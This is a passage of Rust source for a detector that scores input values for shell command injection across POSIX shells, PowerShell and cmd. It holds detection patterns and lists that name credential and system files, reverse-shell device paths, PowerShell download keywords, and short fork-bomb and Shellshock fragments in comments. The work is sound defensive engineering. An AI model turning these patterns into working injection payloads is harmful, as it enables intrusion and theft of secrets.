//! Commands of a shell in a value: POSIX shells, PowerShell and `cmd`.
//!
//! A value attacks if it ends the argument that it was meant to be, by a separator or a
//! substitution, and goes on with a command to its end; or if it is a command and nothing else. What
//! people write of shells has a sentence around it, or many lines. Lists of programs (`docker;vim`)
//! and of fields (`name|id`) have no arguments.
//!
//! Reads    the first `READ_BYTES_MAX` bytes of a value.
//! Memory   none beyond the name of one command.
//! Misses   programs that are not in the list of names; commands behind a long text; names put
//!          together from several variables; separators that are quoted; scripts of many lines.
//! Source   CWE-77, CWE-78; see [`super::command_line`].

use super::caseless::{self, Words};
use super::command_disguise;
use super::command_line::{Before, Command, commands, first_argument, words};
use super::command_names::{self, Name};
use super::marks::Marks;
use super::sign::{Input, Signs, signs};

/// Bytes that are read.
const READ_BYTES_MAX: usize = 2 * 1024;

/// Longest value that is nothing but an attack.
const WHOLE_BYTES_MAX: usize = 768;

/// Longest text before a break.
const LEAD_BYTES_MAX: usize = 64;

/// Pieces that are looked at.
const PIECES_MAX: usize = 48;

signs! {
    LEADING = 0, "leading separator", Certain;
    APPENDED = 1, "appended", Certain;
    BREAKS = 2, "separator and command", Likely;
    SUBSTITUTION = 3, "substitution", Certain;
    SUBSTITUTES = 4, "substitution of a word", Likely;
    WHOLE = 5, "command", Likely;
    WHOLE_TARGET = 6, "command on a target", Certain;
    SPLICED = 7, "spliced name", Certain;
    BLANK = 8, "blank by variable", Certain;
    SLICED = 9, "slice of a variable", Likely;
    BRACED = 10, "brace expansion", Certain;
    GLOB = 11, "globbed path", Certain;
    SHELLSHOCK = 12, "function that runs where it is read", Certain;
    RECONNAISSANCE = 13, "command that looks around and nothing else", Likely;
    SOCKET = 14, "reverse shell", Certain;
    SOCKET_TOLD = 15, "reverse shell in text", Likely;
    INCLUDE = 16, "server-side include", Certain;
    CALL = 17, "call that runs a command", Certain;
    CALLED = 18, "call that runs something", Likely;
    POWERSHELL = 19, "hidden powershell", Certain;
    CMDLET = 20, "powershell", Likely;
    CONTROL = 21, "control flow of cmd", Likely;
    VARIABLE = 22, "variable as a command", Likely;
    EMPTY = 23, "empty expansion", Likely;
    HERE = 24, "here string or process substitution", Likely;
    PROTOCOL = 25, "command of a mail protocol", Certain;
    TARGET = 26, "command with a target in text", Likely;
    LIST = 27, "separator and name of a program", Hint;
    MIDST = 28, "command in text", Hint;
    NAME = 29, "name of a program alone", Hint;
    TILDE = 30, "tilde expansion", Hint;
    PATH = 31, "path to a program", Hint;
}

pub(super) fn look(input: &Input<'_>) -> Signs {
    let mut signs = Signs::default();
    let marks = input.marks;
    if !marks.has_any(NEEDED) {
        signs.note(NAME, !input.is_name && is_probe(input.text, ALONE));
        signs.note(RECONNAISSANCE, signs.has(NAME) && looks_around(input.text));
        return signs;
    }
    // Most values with slashes are URLs.
    if !marks.has_any(SHELL) && caseless::starts_any(input.text, &["http://", "https://"]) {
        return signs;
    }
    let text = input.text.get(..READ_BYTES_MAX).unwrap_or(input.text);
    let value = Value {
        text,
        marks,
        is_name: input.is_name,
        is_short: input.text.len() <= WHOLE_BYTES_MAX && lines(text) <= LINES_MAX,
    };
    value.pieces(&mut signs);
    value.marks(&mut signs);
    value.disguised(&mut signs);
    signs.note(RECONNAISSANCE, !input.is_name && looks_around(text));
    signs
}

/// Signs of calls in some language, a bit each.
pub(super) const SIGNS_OF_CALLS: u32 = 1 << CALL | 1 << CALLED;

/// Whether it could be one: where there is nothing but words, the first says so.
pub(super) fn may_be(input: &Input<'_>, is_prose: bool) -> bool {
    let text = input.text;
    if !input.marks.has_any(NEEDED) {
        return !input.is_name && (ALONE_BYTES_MIN..=ALONE_BYTES_MAX).contains(&text.len());
    }
    if !is_prose {
        return true;
    }
    let first = text.split(|it| matches!(it, b' ' | b'\t')).find(|it| !it.is_empty());
    first.is_some_and(|it| command_names::of(it) != Name::Other)
}

/// Shortest name of a program that says something alone.
const ALONE_BYTES_MIN: usize = 5;

/// Longest name of a program that says something alone.
const ALONE_BYTES_MAX: usize = 10;

/// One of them stands in every command line that is more than a name.
pub(super) const NEEDED: Marks = Marks::SPACE
    .and(Marks::SEMICOLON)
    .and(Marks::PIPE)
    .and(Marks::AMPERSAND)
    .and(Marks::DOLLAR)
    .and(Marks::BACKTICK)
    .and(Marks::QUOTE)
    .and(Marks::DOUBLE_QUOTE)
    .and(Marks::BACKSLASH)
    .and(Marks::SLASH)
    .and(Marks::LINE)
    .and(Marks::LESS)
    .and(Marks::GREATER)
    .and(Marks::PARENTHESIS)
    .and(Marks::BRACE)
    .and(Marks::PERCENT)
    .and(Marks::BANG);

/// One of them stands in every command line that runs something and is disguised.
const DISGUISE: Marks = Marks::DOLLAR
    .and(Marks::BACKSLASH)
    .and(Marks::BACKTICK)
    .and(Marks::PIPE)
    .and(Marks::SEMICOLON)
    .and(Marks::AMPERSAND)
    .and(Marks::BRACKET);

/// One of them stands in every command line behind a URL.
const SHELL: Marks = Marks::SPACE
    .and(Marks::SEMICOLON)
    .and(Marks::PIPE)
    .and(Marks::DOLLAR)
    .and(Marks::BACKTICK)
    .and(Marks::QUOTE)
    .and(Marks::DOUBLE_QUOTE)
    .and(Marks::LINE)
    .and(Marks::LESS)
    .and(Marks::BRACE);

/// Lines of a value that is nothing but an attack.
const LINES_MAX: usize = 3;

fn lines(text: &[u8]) -> usize {
    memchr::memchr_iter(b'\n', text.trim_ascii()).count() + 1
}

/// One value.
#[derive(Clone, Copy, Debug)]
struct Value<'a> {
    text: &'a [u8],
    marks: Marks,
    is_name: bool,
    /// It is short enough to be nothing but an attack.
    is_short: bool,
}

/// How well a piece fits a command line.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Fit {
    /// It does not.
    No,
    /// It is the name of a program that is a word too.
    Word,
    /// It is a name of a program.
    Program,
    /// It is a name of a program with arguments as programs take them.
    Called,
}

/// What stands before the first break.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Lead {
    /// Nothing.
    Nothing,
    /// Something that ends with a quote or bracket that it did not open.
    Closes,
    /// A number, an address, a name of a host: one word that has digits or dots.
    Datum,
    /// A word.
    Word,
    /// A command.
    Command,
    /// More than a word.
    Text,
}

impl Value<'_> {
    /// The same for what a shell makes of it.
    fn disguised(&self, signs: &mut Signs) {
        if self.is_name || !self.is_short || !self.marks.has_any(DISGUISE) {
            return;
        }
        let Some(text) = command_disguise::resolve(self.text) else { return };
        let plain = Value { text: &text, marks: Marks::of(&text), ..*self };
        let mut seen = Signs::default();
        plain.pieces(&mut seen);
        let is_break = [LEADING, APPENDED, BREAKS, SUBSTITUTION, SUBSTITUTES, WHOLE_TARGET]
            .iter()
            .any(|it| seen.has(*it));
        for sign in (0..SIGNS.len()).filter(|it| is_break && seen.has(*it)) {
            signs.note(sign, true);
        }
        signs.note(SPLICED, is_break);
    }

    fn pieces(&self, signs: &mut Signs) {
        let plus_is_blank = !self.marks.has(Marks::SPACE)
            && (matches!(self.text, [b'+' | b'|' | b'&' | b';' | b'$', ..])
                || self.marks.has(Marks::PLUS.and(Marks::SLASH))
                    && memchr::memmem::find(self.text, b"+/").is_some());
        let trimmed = self.text.trim_ascii_end();
        let trimmed = trimmed.strip_suffix(b"\\n").unwrap_or(trimmed);
        let is_separator = |it: &u8| matches!(it, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'%');
        let breaks = self.marks.has_any(SEPARATORS) && trimmed.iter().any(is_separator);
        let mut lead = Lead::Nothing;
        let mut found = Found::default();
        // A line end that was escaped once too often.
        let (text, is_line) = match trimmed.strip_prefix(b"\\n") {
            Some(rest) => (rest, true),
            None => (trimmed, false),
        };
        for (n, mut piece) in commands(text, plus_is_blank).take(PIECES_MAX).enumerate() {
            let n = n + usize::from(is_line);
            if is_line && n == 1 {
                piece.before = Before::Semicolon;
            }
            let fit = fit(&piece);
            let has_target = fit > Fit::No && has_target(piece.text);
            if n == 0 {
                self.first(signs, &piece, fit, has_target, breaks);
                lead = self.lead(piece.text, fit);
            } else if fit > Fit::No && !is_quoted_word(&piece, fit) {
                found.note(&piece, fit, has_target);
            } else if piece.text.iter().any(u8::is_ascii_alphanumeric) {
                found.others += usize::from(
                    found.count == 0 || words(piece.text).filter(|it| is_prose(it)).count() > 2,
                );
                found.rest += usize::from(found.count > 0);
            }
            signs.note(SPLICED, piece.is_spliced && self.is_short && is_splice(&piece, fit));
            signs.note(BLANK, piece.has_ifs && self.is_short);
            signs.note(
                BRACED,
                piece.is_braced && fit > Fit::No && self.is_short && is_brace_list(piece.text),
            );
            signs.note(
                VARIABLE,
                n > 0 && piece.is_variable && self.is_short && is_assigned(self.text, piece.text),
            );
            signs.note(PATH, piece.has_folder);
        }
        self.judge(signs, lead, &found);
    }

    fn first(
        &self,
        signs: &mut Signs,
        piece: &Command<'_>,
        fit: Fit,
        has_target: bool,
        breaks: bool,
    ) {
        if self.is_name || !self.is_short {
            return;
        }
        signs.note(WHOLE, fit == Fit::Called);
        signs.note(
            WHOLE,
            fit >= Fit::Program
                && !breaks
                && piece.arguments.trim_ascii().is_empty()
                && is_probe(piece.text.trim_ascii(), ALONE),
        );
        signs.note(
            WHOLE_TARGET,
            fit == Fit::Called && has_target && !breaks && words(self.text).count() <= 4,
        );
        let is_lower = !piece.text.first().is_some_and(u8::is_ascii_uppercase);
        let is_program =
            piece.name == Name::Program && is_lower && words(piece.arguments).count() <= 4;
        signs.note(NAME, is_program && !breaks && lines(self.text) == 1);
    }

    fn lead(&self, text: &[u8], fit: Fit) -> Lead {
        let text = text.trim_ascii();
        let text = text.strip_suffix(b"\\n").unwrap_or(text);
        match text {
            [] | [b'$' | b'"' | b'\'' | b'+' | b')' | b'@'] => Lead::Nothing,
            _ if fit >= Fit::Called => Lead::Command,
            _ if text.len() > LEAD_BYTES_MAX
                || text.iter().any(u8::is_ascii_whitespace)
                || text.starts_with(b"<") =>
            {
                Lead::Text
            }
            [.., b'"' | b'\'' | b')'] if closes(text) => Lead::Closes,
            _ if !text.iter().any(u8::is_ascii_alphabetic) => Lead::Datum,
            _ if text.iter().any(|it| it.is_ascii_digit() || *it == b'.')
                && !text.contains(&b'=') =>
            {
                Lead::Datum
            }
            _ => Lead::Word,
        }
    }

    fn judge(&self, signs: &mut Signs, lead: Lead, found: &Found) {
        if found.count == 0 {
            return;
        }
        let runs_to_end = self.is_short && found.others == 0;
        let is_call = found.best == Fit::Called && !found.is_filter;
        let is_probe = found.is_probe && found.rest == 0;
        let is_certain = is_call || is_probe || found.has_target;
        signs.note(MIDST, found.best >= Fit::Called);
        signs.note(LIST, found.first != Some(Before::Line));
        signs.note(TARGET, found.has_target && self.is_short);
        let is_substitution =
            found.first.is_some_and(|it| matches!(it, Before::Substitution | Before::Backtick));
        if !runs_to_end {
            return;
        }
        if is_substitution {
            let is_code = found.first == Some(Before::Backtick)
                && lead == Lead::Nothing
                && self.text.starts_with(b"`")
                && self.text.ends_with(b"`");
            let stands_alone = matches!(lead, Lead::Nothing | Lead::Closes | Lead::Datum);
            signs.note(
                SUBSTITUTION,
                stands_alone
                    && (is_call || found.best == Fit::Program && is_probe)
                    && (!is_code || found.has_target),
            );
            signs.note(SUBSTITUTES, lead != Lead::Text || is_call);
            return;
        }
        let is_line = found.first == Some(Before::Line);
        match lead {
            Lead::Nothing if !is_line || self.text.starts_with(b"%") => {
                signs.note(LEADING, is_certain)
            }
            Lead::Closes => signs.note(APPENDED, is_certain),
            Lead::Datum if !is_line => signs.note(
                APPENDED,
                is_call || found.has_target || found.best == Fit::Program && is_probe,
            ),
            Lead::Word if !is_line => signs.note(
                APPENDED,
                found.has_target || found.has_folder || found.best == Fit::Program && is_probe,
            ),
            Lead::Nothing | Lead::Datum | Lead::Word | Lead::Command | Lead::Text => {}
        }
        let is_break = match lead {
            Lead::Nothing | Lead::Closes => true,
            // `a=1&id`
            Lead::Datum | Lead::Word => is_call || found.first != Some(Before::Ampersand),
            Lead::Command | Lead::Text => false,
        };
        signs.note(
            BREAKS,
            is_break && (is_certain || found.best >= Fit::Program || lead == Lead::Nothing),
        );
        let is_grave = found.has_target || found.has_folder;
        signs
            .note(BREAKS, lead == Lead::Text && is_call && is_grave && found.rest == 0 && !is_line);
    }

    fn marks(&self, signs: &mut Signs) {
        let (text, marks) = (self.text, self.marks);
        let has = |it: Marks| marks.has(it);
        if has(Marks::PARENTHESIS.and(Marks::BRACE)) {
            signs.note(SHELLSHOCK, is_function(text) || is_fork_bomb(text));
        }
        if has(Marks::DOLLAR.and(Marks::BRACE).and(Marks::COLON))
            || has(Marks::PERCENT.and(Marks::COLON).and(Marks::BANG))
        {
            signs.note(SLICED, self.is_short && is_sliced(text));
        }
        if has(Marks::SLASH) {
            signs.note(
                GLOB,
                marks.has_any(Marks::PLUS.and(Marks::STAR).and(Marks::BRACKET))
                    && self.is_short
                    && is_glob(text),
            );
            let opens_socket = marks.has_any(SHELL) && has_socket(text, marks);
            signs.note(SOCKET_TOLD, opens_socket);
            signs.note(SOCKET, opens_socket && self.is_short && has_redirect(text));
        }
        if has(Marks::BANG.and(Marks::HASH)) {
            signs.note(
                INCLUDE,
                self.is_short && caseless::contains_any(text, &["<!--#exec", "&lt;!--#exec"]),
            );
        }
        if has(Marks::PARENTHESIS) {
            let call = call(text).or_else(|| runs(text).then_some(false));
            signs.note(CALL, self.is_short && call == Some(true));
            signs.note(CALLED, self.is_short && call.is_some());
        }
        if has(Marks::DOLLAR.and(Marks::BRACKET).and(Marks::UNDERSCORE)) && self.is_short {
            signs.note(
                CALLED,
                ["$_GET[", "$_POST[", "$_REQUEST[", "$_COOKIE[", "$_SERVER["]
                    .iter()
                    .any(|it| memchr::memmem::find(text, it.as_bytes()).is_some()),
            );
        }
        if has(Marks::SPACE.and(Marks::DASH)) {
            self.powershell(signs);
        }
        if has(Marks::SPACE) && self.is_short {
            signs.note(CONTROL, is_control(text));
        }
        if has(Marks::DOLLAR.and(Marks::PARENTHESIS)) && self.is_short {
            signs.note(
                EMPTY,
                memchr::memmem::find(text, b"$()").is_some() && !text.ends_with(b"$()"),
            );
        }
        if marks.has_any(Marks::LESS.and(Marks::GREATER)) && self.is_short {
            signs.note(HERE, is_here(text));
        }
        if has(Marks::LINE) && self.is_short {
            signs.note(PROTOCOL, is_protocol(text));
        }
        if has(Marks::BANG) {
            let is_tilde = matches!(
                text,
                [b'~', b'+' | b'-'] | [b'~', b'+' | b'-', b'0'..=b'9'] | [b'~', b'0'..=b'9']
            );
            signs.note(TILDE, is_tilde);
        }
    }

    fn powershell(&self, signs: &mut Signs) {
        let text = self.text;
        let Some(&first) = text.trim_ascii_start().first() else { return };
        let shell = caseless::find(text, b"powershell")
            .map(|at| at + 10)
            .or_else(|| caseless::find(text, b"pwsh").map(|at| at + 4));
        if let Some(arguments) = shell.and_then(|at| text.get(at..)) {
            let hides = words(arguments)
                .skip_while(|it| !is_encoded_option(it))
                .nth(1)
                .is_some_and(|it| it.len() >= 16);
            let loads = caseless::contains_any(
                arguments,
                &["downloadstring", "downloadfile", "frombase64string", "net.webclient"],
            );
            signs.note(POWERSHELL, self.is_short && (hides || loads));
            let is_option = |it: &[u8]| {
                caseless::starts_any(
                    it,
                    &["-e", "-nop", "-noni", "-w", "-ex", "-c", "/c", "-inputformat", "iex"],
                )
            };
            signs.note(
                CMDLET,
                self.is_short && (hides || loads || words(arguments).take(3).any(is_option)),
            );
        }
        if self.is_short
            && (first.is_ascii_alphabetic() || matches!(first, b';' | b'|' | b'&' | b'$'))
        {
            signs.note(
                CMDLET,
                text.split(|it| matches!(it, b';' | b'|' | b'&')).take(4).any(is_cmdlet),
            );
        }
    }
}

/// What ends the command before it.
const SEPARATORS: Marks = Marks::SEMICOLON
    .and(Marks::PIPE)
    .and(Marks::AMPERSAND)
    .and(Marks::LINE)
    .and(Marks::BACKTICK)
    .and(Marks::PERCENT);

/// What was found behind the first break.
#[derive(Clone, Copy, Debug)]
struct Found {
    first: Option<Before>,
    count: usize,
    best: Fit,
    has_target: bool,
    is_probe: bool,
    is_filter: bool,
    has_folder: bool,
    /// Pieces of text.
    others: usize,
    /// Pieces behind the first command that are none.
    rest: usize,
}

impl Default for Found {
    fn default() -> Self {
        Self {
            first: None,
            count: 0,
            best: Fit::No,
            has_target: false,
            is_probe: false,
            is_filter: true,
            has_folder: false,
            others: 0,
            rest: 0,
        }
    }
}

impl Found {
    fn note(&mut self, piece: &Command<'_>, fit: Fit, has_target: bool) {
        if self.first.is_none() {
            self.first = Some(piece.before);
        }
        let name = piece.text.trim_ascii();
        self.count += 1;
        self.best = self.best.max(fit);
        self.has_target |= has_target;
        self.has_folder |= piece.has_folder;
        self.is_probe |= is_probe(bare(name), PROBES) || piece.has_folder;
        self.is_filter &= is_filter(bare(name)) && !has_target;
    }
}

/// A name without quotes, folders and arguments around it.
fn bare(text: &[u8]) -> &[u8] {
    let is_mark =
        |it: &u8| matches!(it, b'"' | b'\'' | b')' | b'(' | b'{' | b'}' | b' ' | b'+' | b'\\');
    let from = text.iter().take_while(|it| is_mark(it)).count();
    let text = text.get(from..).unwrap_or_default();
    let count = text.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b'.').count();
    let name = text.get(..count).unwrap_or_default();
    let tail = text.get(count..).unwrap_or_default();
    if tail.iter().all(|it| is_mark(it) || matches!(it, b'n' | b'r' | b'#' | 0))
        || tail.starts_with(b" ")
    {
        name
    } else {
        &[]
    }
}

/// `'word'`: an item of a list, or a string of code.
fn is_quoted_word(piece: &Command<'_>, fit: Fit) -> bool {
    let text = piece.text.trim_ascii();
    fit < Fit::Called && matches!(text, [b'"', .., b'"'] | [b'\'', .., b'\'']) && !piece.is_spliced
}

/// How well a piece fits a command line.
fn fit(piece: &Command<'_>) -> Fit {
    if piece.name == Name::Other {
        return Fit::No;
    }
    let first = first_argument(piece.arguments);
    let plain = unquoted(first);
    let has_none = plain.is_empty() || matches!(plain, b"#" | b"\\n");
    if has_none && piece.arguments.len() <= 8 {
        return match piece.name {
            _ if piece.has_folder => Fit::Called,
            Name::Program => Fit::Program,
            Name::Word | Name::Other => Fit::Word,
        };
    }
    // `cat:` and `sort=` are names of fields, `find(x)` is a call.
    if matches!(piece.arguments, [b':' | b'=' | b'(' | b'.', ..]) {
        return Fit::No;
    }
    let is_last = words(piece.arguments).nth(1).is_none();
    let is_word = |words: &[&str]| {
        words.iter().any(|it| bare(piece.text).eq_ignore_ascii_case(it.as_bytes()))
    };
    let says = is_word(&["echo", "printf"])
        && (matches!(first, [b'"' | b'\'', ..])
            || matches!(piece.before, Before::Substitution | Before::Backtick));
    let reads = is_last && is_file(plain) && is_word(READERS);
    let assigns = is_word(&["alias"]) && first.contains(&b'=');
    let is_called = says
        || assigns
        || reads
        || writes(piece.arguments)
        || piece.is_fitting
        || piece.is_braced && plain.len() > 1
        || is_technical(plain, is_last)
        || is_redirect(piece.arguments);
    match piece.name {
        _ if is_called || piece.has_folder => Fit::Called,
        Name::Program
            if words(piece.arguments).count() <= 3
                && words(piece.arguments).skip(1).any(|it| is_technical(unquoted(it), false)) =>
        {
            Fit::Called
        }
        Name::Program if words(piece.arguments).count() <= 2 => Fit::Program,
        Name::Program | Name::Word | Name::Other => Fit::No,
    }
}

fn unquoted(word: &[u8]) -> &[u8] {
    let is_mark = |it: &u8| matches!(it, b'"' | b'\'' | b'\\' | b'+' | b')' | b'}' | b'{' | b',');
    let from = word.iter().take_while(|it| is_mark(it)).count();
    let word = word.get(from..).unwrap_or_default();
    let count = word.iter().rev().take_while(|it| is_mark(it)).count();
    word.get(..word.len().saturating_sub(count)).unwrap_or_default()
}

/// `<file` right behind the name.
fn is_redirect(arguments: &[u8]) -> bool {
    let arguments = arguments.trim_ascii_start();
    let is_tag = memchr::memchr(b'>', arguments.get(1..).unwrap_or_default()).is_some();
    matches!(
        arguments,
        [b'<' | b'>', b'<' | b'>' | b' ' | b'/' | b'&' | b'.' | b'"' | b'a'..=b'z', ..]
    ) && !(arguments.starts_with(b"<") && is_tag)
}

/// Whether an argument is one that people do not write behind a word: an option, a path, an
/// address, a variable; a number or a name of a file if nothing follows.
fn is_technical(word: &[u8], is_last: bool) -> bool {
    match word {
        [b'-', b'-', b'a'..=b'z', ..] | [b'-', b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9', ..] => true,
        [b'/', rest @ ..] => !rest.is_empty() && rest.first() != Some(&b' ') || is_last,
        [b'.', b'/' | b'.', ..] | [b'~', b'/', ..] | [b'\\', b'\\', ..] => {
            word.len() > 2 && !word.starts_with(b"...")
        }
        [b'$', b'a'..=b'z' | b'A'..=b'Z' | b'{' | b'(' | b'_', ..]
        | [b'%', b'a'..=b'z' | b'A'..=b'Z', ..] => true,
        [b'a'..=b'z' | b'A'..=b'Z', b':', b'/' | b'\\', ..] => true,
        [b'a'..=b'z' | b'A'..=b'Z', b':'] => is_last,
        [b'<' | b'>', b'/' | b'&' | b'a'..=b'z', rest @ ..] => !rest.contains(&b'>'),
        [b'0'..=b'9', rest @ ..] => {
            let is_number = rest.iter().all(u8::is_ascii_digit);
            is_number && is_last || is_address(word)
        }
        _ => {
            memchr::memmem::find(word, b"://").is_some()
                || is_last && is_domain(word)
                || has_glob(word) && is_last && word.len() > 1
        }
    }
}

fn has_glob(word: &[u8]) -> bool {
    word.contains(&b'*')
        && word
            .iter()
            .all(|it| it.is_ascii_alphanumeric() || matches!(it, b'*' | b'.' | b'/' | b'_'))
}

fn is_address(word: &[u8]) -> bool {
    word.len() >= 7
        && word.iter().filter(|it| **it == b'.').count() == 3
        && word.iter().all(|it| it.is_ascii_digit() || matches!(it, b'.' | b':' | b'/'))
}

/// Commands that are run on a file of the folder they stand in.
const READERS: &[&str] = &[
    "bash", "cat", "del", "head", "nl", "node", "perl", "php", "python", "rm", "ruby", "sh", "tac",
    "tail", "type", "vi",
];

/// `> cmd.php`, `>/tmp/x`: the output goes to a file.
fn writes(arguments: &[u8]) -> bool {
    let Some(at) = memchr::memchr(b'>', arguments) else { return false };
    let file = arguments.get(at..).unwrap_or_default();
    let file = file.strip_prefix(b">").unwrap_or(file);
    let file = first_argument(file.strip_prefix(b">").unwrap_or(file));
    file.starts_with(b"/") && file.len() > 2 || is_file(file)
}

/// `boot.ini`, `cmd.php`, `win.ini`.
fn is_file(word: &[u8]) -> bool {
    let mut parts = word.rsplit(|it| *it == b'.');
    let extension = parts.next().unwrap_or_default();
    let rest = parts.next();
    rest.is_some_and(|it| !it.is_empty())
        && (2..=4).contains(&extension.len())
        && extension.iter().all(u8::is_ascii_lowercase)
        && word.iter().all(|it| it.is_ascii_alphanumeric() || matches!(it, b'.' | b'_' | b'-'))
}

/// `localhost`.
fn is_domain(word: &[u8]) -> bool {
    word.eq_ignore_ascii_case(b"localhost")
}

/// A word as sentences have them.
fn is_prose(word: &[u8]) -> bool {
    let word = unquoted(word);
    word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic)
}

/// What commands of an attack are run on.
fn has_target(text: &[u8]) -> bool {
    text.iter().any(|it| matches!(it, b'/' | b'\\' | b'.')) && caseless::contains_any(text, TARGETS)
}

const TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "win.ini",
    "boot.ini",
    "system32\\config",
    "repair\\sam",
    "repair\\system",
    "proc/self",
    "/proc/version",
    ".ssh/",
    "id_rsa",
    "/etc/issue",
    "/dev/tcp/",
    "/dev/udp/",
    ".bash_history",
];

/// Whether the word by itself is what attacks run to see whether they can.
fn is_probe(name: &[u8], names: &[&str]) -> bool {
    name.len() <= ALONE_BYTES_MAX
        && names.iter().any(|it| {
            name == it.as_bytes()
                || name.eq_ignore_ascii_case(it.as_bytes())
                    && !name.iter().skip(1).any(u8::is_ascii_lowercase)
        })
}

/// Names that say something even alone.
const ALONE: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "nslookup",
    "printenv",
    "sysinfo",
    "uname",
];

/// Whether the value is a command that tells of the machine, with options at most. `whoami` is a word of chats too.
fn looks_around(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    let mut words = words(text.get(..NAME_AND_OPTIONS_BYTES_MAX + 1).unwrap_or(text));
    let is_wrapper =
        |it: &&[u8]| WRAPPERS.iter().any(|name| unquoted(it).eq_ignore_ascii_case(name.as_bytes()));
    let mut wrappers = 0;
    let first = words.find(|it| {
        let is_wrapper = is_wrapper(it);
        wrappers += usize::from(is_wrapper);
        !is_wrapper
    });
    let name = bare(first.unwrap_or_default());
    let is_word = ["whoami", "nslookup"].iter().any(|it| name.eq_ignore_ascii_case(it.as_bytes()));
    let is_option = |it: &[u8]| matches!(it, [b'-' | b'/', rest @ ..] if !rest.is_empty() && rest.iter().all(u8::is_ascii_alphabetic));
    text.len() <= NAME_AND_OPTIONS_BYTES_MAX
        && is_probe(name, ALONE)
        && (wrappers > 0 || !is_word)
        && words.all(is_option)
}

/// Programs that run another.
const WRAPPERS: &[&str] = &["env", "exec", "nice", "nohup", "setsid", "strace", "time"];

/// Longest command that looks around.
const NAME_AND_OPTIONS_BYTES_MAX: usize = 32;

/// Names that say something behind a separator.
const PROBES: &[&str] = &[
    "whoami",
    "id",
    "ls",
    "pwd",
    "dir",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "nslookup",
    "printenv",
    "sysinfo",
    "uname",
    "ps",
    "env",
    "cat",
    "sleep",
    "ping",
    "nid",
    "phpinfo",
    "tasklist",
    "ll",
];

/// Names that stand behind separators in what people paste.
fn is_filter(name: &[u8]) -> bool {
    const FILTERS: Words = Words::new(&[
        "awk", "column", "cut", "egrep", "exit", "false", "fmt", "grep", "head", "jq", "less",
        "make", "more", "sed", "sort", "tail", "tee", "time", "tr", "true", "uniq", "wc", "xargs",
    ]);
    FILTERS.has(name)
}

/// Whether `text` ends with a quote or bracket that it did not open.
fn closes(text: &[u8]) -> bool {
    let count = |byte: u8| text.iter().filter(|it| **it == byte).count();
    match text.last() {
        Some(b')') => count(b')') > count(b'('),
        Some(&quote) => !count(quote).is_multiple_of(2),
        None => false,
    }
}

/// A splice of a short name needs arguments.
fn is_splice(piece: &Command<'_>, fit: Fit) -> bool {
    piece.name == Name::Program || fit == Fit::Called
}

/// `{cat,/etc/passwd}`, `{,ip,a}`: no blank, and more than names.
fn is_brace_list(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    let Some([b'{', inside @ ..]) =
        text.iter().position(|it| *it == b'{').and_then(|at| text.get(at..))
    else {
        return false;
    };
    let end = memchr::memchr(b'}', inside).unwrap_or(inside.len());
    let inside = inside.get(..end).unwrap_or_default();
    let items = || inside.split(|it| *it == b',');
    let is_odd = |it: &[u8]| matches!(it, [b'-' | b'/' | b'.', _, ..]);
    !inside.iter().any(|it| matches!(it, b' ' | b':' | b'"'))
        && items().count() > 1
        && (inside.starts_with(b",") || items().skip(1).any(is_odd))
}

/// Whether the variable at which `piece` begins is assigned before it.
fn is_assigned(text: &[u8], piece: &[u8]) -> bool {
    let Some(b'$') = piece.trim_ascii().first() else { return false };
    let word = piece.trim_ascii().get(1..).unwrap_or_default();
    let word = word.strip_prefix(b"{").unwrap_or(word);
    let count = word.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b'_').count();
    let Some(name) = word.get(..count).filter(|it| !it.is_empty()) else { return false };
    let start = text.trim_ascii_start();
    let is_assignment = |it: &[u8]| {
        it.strip_prefix(name).is_some_and(|it| it.starts_with(b"=") && !it.starts_with(b"=="))
    };
    is_assignment(start) || start.split(|it| matches!(it, b';' | b'&' | b' ')).any(is_assignment)
}

/// `() { :;};` as a value of an environment.
fn is_function(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    let Some(rest) =
        text.strip_prefix(b"()").map(<[u8]>::trim_ascii_start).and_then(|it| it.strip_prefix(b"{"))
    else {
        return false;
    };
    match rest.trim_ascii_start() {
        [b':' | b'_', rest @ ..] => {
            matches!(rest.trim_ascii_start(), [b';' | b'}' | b')' | b'\'', ..])
        }
        rest => rest.is_empty() || memchr::memmem::find(rest, b"};").is_some_and(|at| at <= 32),
    }
}

/// `f(){ f|f& };f`: a function that runs itself twice.
fn is_fork_bomb(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    let Some(at) = memchr::memmem::find(text.get(..LEAD_BYTES_MAX).unwrap_or(text), b"()") else {
        return false;
    };
    let (name, body) = text.split_at_checked(at).unwrap_or_default();
    let from = name
        .iter()
        .rposition(|it| matches!(it, b' ' | b';' | b'=' | b'|' | b'&'))
        .map_or(0, |at| at + 1);
    let name = name.get(from..).unwrap_or_default();
    let body = body.get(2..).unwrap_or_default();
    let Some(inside) = body.trim_ascii_start().strip_prefix(b"{") else { return false };
    let inside = inside.trim_ascii_start();
    let calls = !name.is_empty() && name.len() <= 32 && inside.starts_with(name);
    let end = memchr::memchr(b'}', inside).unwrap_or(inside.len());
    let twice = inside.get(..end).unwrap_or_default();
    calls
        && memchr::memmem::find_iter(twice, name).take(2).count() == 2
        && twice.iter().any(|it| matches!(it, b'|' | b'&'))
}

/// `${PATH:0:1}`, `%PATH:~0,1%`.
fn is_sliced(text: &[u8]) -> bool {
    let is_slice = |it: &[u8]| {
        let count = it
            .iter()
            .take_while(|it| it.is_ascii_alphanumeric() || matches!(it, b'_' | b'@' | b'#' | b'!'))
            .count();
        matches!(it.get(count..), Some([b':', b'~' | b'0'..=b'9' | b' ' | b'$' | b'-', ..]))
            && count > 0
    };
    memchr::memmem::find_iter(text, b"${").take(PIECES_MAX).any(|at| {
        let inside = text.get(at + 2..).unwrap_or_default();
        is_slice(inside) && !inside.starts_with(b"env")
    }) || memchr::memchr_iter(b'%', text).take(PIECES_MAX).any(|at| {
        let inside = text.get(at + 1..).unwrap_or_default();
